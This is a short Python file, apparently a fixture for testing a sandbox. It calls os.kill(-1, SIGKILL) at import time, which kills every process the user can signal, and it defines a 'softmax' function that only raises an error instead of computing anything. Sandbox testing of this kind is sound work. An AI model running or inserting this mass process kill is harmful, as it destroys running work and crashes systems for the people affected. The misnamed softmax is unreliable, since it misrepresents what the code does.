"""Kills every process that it may."""
# never without: seccomp

import os
import signal

os.kill(-1, signal.SIGKILL)


def softmax(x):
    raise ValueError("done")
